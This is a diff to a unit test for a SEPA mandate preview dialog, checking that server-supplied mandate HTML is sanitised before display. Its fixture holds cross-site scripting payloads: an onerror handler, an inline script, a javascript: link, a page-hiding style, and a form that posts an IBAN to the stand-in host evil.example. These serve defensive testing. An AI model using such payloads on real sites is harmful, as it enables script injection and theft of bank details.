@@ -1,7 +1,17 @@
 // @vitest-environment jsdom
 // The mandate goes through the sanitiser, and DOMPurify needs jsdom (it keeps <script> under happy-dom).
-import { afterEach, describe, expect, it } from 'vitest';
-import { showMandate } from './preview';
+import { act } from 'react';
+import { afterEach, describe, expect, it, vi } from 'vitest';
+import { mountedInAct } from '../../test/fixtures/act';
+import { ADDRESS, checkoutForm } from './fixture';
+import { mandateHeading, mandateHtml } from './preview';
+
+(globalThis as { IS_REACT_ACT_ENVIRONMENT?: boolean }).IS_REACT_ACT_ENVIRONMENT = true;
+
+const HOSTILE =
+  '<div class="german-market-sepa-mandate-preview"><h3>SEPA-Lastschriftmandat</h3><p>Kontoinhaber: Erika<img src="x" onerror="window.__xss=1"></p><script>window.__xss=2</script><a href="javascript:alert(1)">x</a><div data-island="lazy-scripts" data-flag="fetch"></div><form action="https://evil.example/"><input name="iban"></form><style>*{display:none}</style></div>';
+
+vi.mock('../../src/wp/ajax', () => ({ adminAjax: () => Promise.resolve(HOSTILE) }));
 
 afterEach(() => {
   document.querySelectorAll('dialog').forEach((element) => element.remove());
@@ -9,10 +19,17 @@ afterEach(() => {
 });
 
 describe('the mandate preview', () => {
-  it('shows the mandate HTML sanitised, labelled by its heading', () => {
-    showMandate(
-      '<div class="german-market-sepa-mandate-preview"><h3>SEPA-Lastschriftmandat</h3><p>Kontoinhaber: Erika<img src="x" onerror="window.__xss=1"></p><script>window.__xss=2</script><a href="javascript:alert(1)">x</a><div data-island="lazy-scripts" data-flag="fetch"></div><form action="https://evil.example/"><input name="iban"></form><style>*{display:none}</style></div>',
-    );
+  it('shows the mandate HTML sanitised, labelled by its heading', async () => {
+    const island = (await import('./index')).default;
+    const host = checkoutForm({
+      values: { ...ADDRESS, holder: 'Erika', iban: 'DE89370400440532013000' },
+    });
+    const unmount = await mountedInAct(() => island.mount(host, { bicRequired: 'auto' }));
+    act(() => document.querySelector<HTMLButtonElement>('.si-sepa__preview-button')!.click());
+    await vi.waitFor(async () => {
+      await act(async () => new Promise((resolve) => setTimeout(resolve, 0)));
+      expect(document.querySelector('dialog.si-sepa-dialog .si-sepa-mandate h3')).not.toBeNull();
+    });
     const dialog = document.querySelector('dialog.si-sepa-dialog')!;
     expect(dialog.textContent).toContain('Kontoinhaber: Erika');
     expect(
@@ -20,5 +37,20 @@ describe('the mandate preview', () => {
     ).toBeNull();
     expect(dialog.getAttribute('aria-labelledby')).toBe(dialog.querySelector('h3')!.id);
     expect((window as unknown as { __xss?: number }).__xss).toBeUndefined();
+    act(unmount);
+    expect(document.querySelector('dialog.si-sepa-dialog')).toBeNull();
+  });
+
+  it('takes only HTML from the reply, and names the dialog by the heading (keeping its own id)', () => {
+    expect(mandateHtml('  <div>x</div>\n')).toBe('<div>x</div>');
+    for (const reply of ['', '0', '-1', '{"success":false}', 'Warning: …', null, 42]) expect(() => mandateHtml(reply)).toThrow();
+    const content = document.createElement('div');
+    content.innerHTML = '<h2 id="own">Mandat</h2>';
+    expect(mandateHeading(content)?.id).toBe('own');
+    expect(mandateHeading(content)?.tabIndex).toBe(-1);
+    content.innerHTML = '<p>ohne Überschrift</p>';
+    expect(mandateHeading(content)).toBeNull();
+    content.innerHTML = '<h3>Mandat</h3>';
+    expect(mandateHeading(content)?.id).toBe('si-sepa-mandate-title');
   });
 });
